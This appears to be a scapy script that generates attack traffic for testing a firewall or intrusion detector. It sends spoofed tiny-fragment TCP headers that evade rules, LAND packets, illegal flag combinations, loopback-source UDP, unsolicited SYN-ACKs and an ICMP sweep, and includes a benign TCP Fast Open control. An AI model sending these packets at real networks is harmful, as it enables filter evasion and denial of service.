"""Attacks that only a packet generator can send, by scapy: attackers.py KIND SOURCE TARGET …"""
import sys

from scapy.all import ICMP, IP, TCP, UDP, Raw, conf

conf.verb = 0
socket = conf.L3socket(iface="eth0")


def tiny(source, target):
    """A TCP header in two fragments, so that no rule sees the flags (RFC 1858)."""
    header = bytes(TCP(sport=40000, dport=80, flags="S"))
    first = IP(src=source, dst=target, id=7, flags="MF", proto=6) / Raw(header[:8])
    return [first, IP(src=source, dst=target, id=7, frag=1, proto=6) / Raw(header[8:])]


def land(source, target):
    return [IP(src=target, dst=target) / TCP(sport=80, dport=80, flags="S") for _ in range(8)]


def malformed(source, target):
    flags = ["", "SF", "SR", "FSRPAU", "F", "FPU", "SFPU", "FP"]
    return [IP(src=source, dst=target) / TCP(sport=41000 + n, dport=80, flags=flags[n % len(flags)]) for n in range(40)]


def loopback(source, target):
    return [IP(src="127.0.0.1", dst=target) / UDP(sport=53, dport=53) / Raw(b"x") for _ in range(20)]


def answers(source, target):
    return [IP(src=source, dst=target) / TCP(sport=443, dport=43000 + n, flags="SA", ack=1) for n in range(40)]


def data(source, target):
    return [IP(src=source, dst=target) / TCP(sport=44000 + n, dport=80, flags="S", options=[("MSS", 1460)]) / Raw(b"hello") for n in range(3)]


def fast_open(source, target):
    """Honest: data in a SYN, with a cookie that was given out before (RFC 7413)."""
    options = [("MSS", 1460), (34, bytes(8)), ("NOP", None), ("NOP", None)]
    return [IP(src=source, dst=target) / TCP(sport=45000 + n, dport=80, flags="S", options=options) / Raw(b"hello") for n in range(3)]


def sweep(source, _):
    return [IP(src=source, dst=f"198.51.100.{host}") / ICMP(id=7, seq=host) for host in range(10, 50)]


kinds = [tiny, land, malformed, loopback, answers, data, fast_open, sweep]
target, first = sys.argv[1], int(sys.argv[2])
for number, kind in enumerate(kinds):
    for packet in kind(f"192.0.2.{first + number}", target):
        socket.send(packet)
    print(kind.__name__, flush=True)
